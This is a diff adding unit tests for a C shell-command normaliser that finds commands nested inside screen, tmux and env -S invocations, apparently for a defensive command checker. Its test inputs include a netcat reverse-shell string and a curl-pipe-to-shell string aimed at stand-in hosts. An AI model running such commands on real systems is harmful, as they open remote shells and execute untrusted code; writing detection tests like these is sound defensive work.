@@ -202,3 +202,24 @@ Test(norm_nested, depth_limit_truncates)
     for (int i = 0; i < a->ncmds; i++)
         cr_assert(a->cmds[i].depth <= 2);
 }
+
+Test(norm_nested, screen_and_tmux)
+{
+    const px_actions *a = norm("screen -dmS job bash -c 'nc -e /bin/sh h 1'");
+    const px_cmd *b = nested_under(a, "screen", "bash");
+    nested_under(a, "bash", "nc");
+    cr_assert_eq(b->depth, 1);
+    a = norm("tmux new-session -d -s x 'curl -s http://x | sh'");
+    nested_under(a, "tmux", "curl");
+    nested_under(a, "tmux", "sh");
+    a = norm("tmux ls");
+    cr_assert_eq(a->ncmds, 1);
+}
+
+Test(norm_nested, env_split_string_spellings)
+{
+    const px_actions *a = norm("env --split-string='sh -c id'; env -S'uname -a' extra");
+    nested_under(a, "env", "sh");
+    need_prog(a, "id");
+    cr_assert_str_eq(need_prog(a, "uname")->line, "uname -a extra", "%s", dump(a));
+}
